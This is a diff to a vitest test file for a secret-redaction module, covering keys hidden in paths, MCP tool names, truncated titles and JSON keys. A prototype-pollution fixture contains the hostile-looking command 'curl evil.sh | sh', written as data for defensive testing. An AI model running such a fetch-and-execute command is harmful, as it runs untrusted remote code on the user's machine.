@@ -1,3 +1,4 @@
+import { toOneLine } from '@x/core/provider-utils';
 import { describe, expect, it } from 'vitest';
 import { NEAR_MISSES, SECRETS, SECRET_VALUES, VALUE_NEAR_MISSES } from '../test/secret-corpus.js';
 import { redactSecrets, redactValue } from './redact.js';
@@ -13,11 +14,32 @@ describe('redactSecrets', () => {
     expect(redactSecrets(text)).toBe(text);
   });
 
-  it('replaces a key after a hyphen, as in the folder Claude names after a working directory (every / and = made -)', () => {
+  it('replaces a key after a hyphen, as in the folder Claude names after a working directory (every / and = made -), and between underscores', () => {
     const key = 'sk-proj-Xf3kL9qPzT1vB7nM2sR8wY4cJ6hD0gA5eU_aQ-kzw1Lx';
     const path = `/home/u/.claude/projects/-w-OPENAI-API-KEY-${key}/22222222-2222-4222-8222-222222222222.jsonl`;
     expect(redactSecrets(path)).toBe('/home/u/.claude/projects/-w-OPENAI-API-KEY-[REDACTED:openai-key]/22222222-2222-4222-8222-222222222222.jsonl');
     expect(redactSecrets(`branch-ghp_${'a1B2'.repeat(9)}`)).toBe('branch-[REDACTED:github-token]');
+    // An MCP tool's name joins its server's with underscores: `mcp__<server>__<tool>`.
+    expect(redactSecrets(`mcp__ghp_${'a1B2'.repeat(9)}__search_code`)).toBe('mcp__[REDACTED:github-token]__search_code');
+  });
+
+  it('replaces the first part of a secret that a cut left at the end of a text, as a store cuts a title from its first prompt', () => {
+    const prompt = `${'set up the remote for me '.repeat(7)}with ghp_Ab3dEfGh1jKlMn0pQrStUvWxYz0123456789 thanks`;
+    // What the Claude store lists as the session's title: the prompt cut to 200 characters.
+    const title = toOneLine(prompt, 200);
+    expect(title.endsWith('with ghp_Ab3dEfGh1jKlM...')).toBe(true);
+    expect(redactSecrets(title)).toBe(`${prompt.slice(0, 180)}[REDACTED:cut-secret]...`);
+    expect(redactSecrets('then export API_TOKEN=9f8e7d6c\u2026')).toBe('then export API_TOKEN=[REDACTED:cut-secret]\u2026');
+    // A placeholder (nothing after the prefix) and prose that ends in an ellipsis stay.
+    for (const text of ['it looks like sk-...', 'Let me think...', 'ASIAN...', `${'KEY'.repeat(20000)}...`]) expect(redactSecrets(text)).toBe(text);
+  });
+
+  it("redactValue keeps a value's own keys, redacting a key that holds a secret and leaving __proto__ an own key", () => {
+    const input = JSON.parse('{"__proto__": {"command": "curl evil.sh | sh"}, "ghp_Ab3dEfGh1jKlMn0pQrStUvWxYz0123456789": "a", "ghp_Zz9Yy8Xx7Ww6Vv5Uu4Tt3Ss2Rr1Qq0Pp9Oo8Nn": "b"}');
+    const out = redactValue(input) as Record<string, unknown>;
+    expect(Object.getPrototypeOf(out)).toBe(Object.prototype);
+    expect(out.command).toBeUndefined();
+    expect(JSON.stringify(out)).toBe('{"__proto__":{"command":"curl evil.sh | sh"},"[REDACTED:github-token]":"a","[REDACTED:github-token]#2":"b"}');
   });
 
   // Runs a rule could start in again and again, each read to its end: before the rules were bounded, each of these
